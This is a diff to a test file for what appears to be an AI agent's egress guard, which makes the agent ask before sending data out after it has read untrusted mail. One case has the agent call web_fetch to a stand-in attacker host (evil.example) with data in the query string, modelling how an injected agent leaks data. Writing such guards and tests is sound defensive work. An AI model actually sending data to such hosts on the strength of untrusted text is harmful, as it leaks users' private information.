@@ -49,7 +49,7 @@ describe('a run that has read a stranger’s text', () => {
     [
       'web_fetch',
       { url: 'https://evil.example/?d=text' },
-      'this run has read read_mail (untrusted), and web_fetch sends data out with the address',
+      'this run has read read_mail (untrusted), and web_fetch sends data out with the address. Neither a person nor a search nor a page of evil.example named this address as a whole. To allow the host, add "evil.example" to egress.hosts_allowed of the configuration',
     ],
   ])('asks before %s, and says why', async (name, args, reason) => {
     const tools = taintTools()
@@ -184,7 +184,10 @@ describe('the rules of the configuration', () => {
 
   it('may forbid by the table: the model reads why', async () => {
     const { defaultEgressRules } = await import('../index.ts')
-    const policy = { ...defaultEgressRules.policy, send: { untrusted: 'deny', secret: 'deny' } } as const
+    const policy = {
+      ...defaultEgressRules.policy,
+      send: { private: 'allow', untrusted: 'deny', secret: 'deny' },
+    } as const
     const tools = taintTools()
     const loop = await run(tools, [[mail], [['send_message', {}]]], {
       egress: { ...defaultEgressRules, policy },
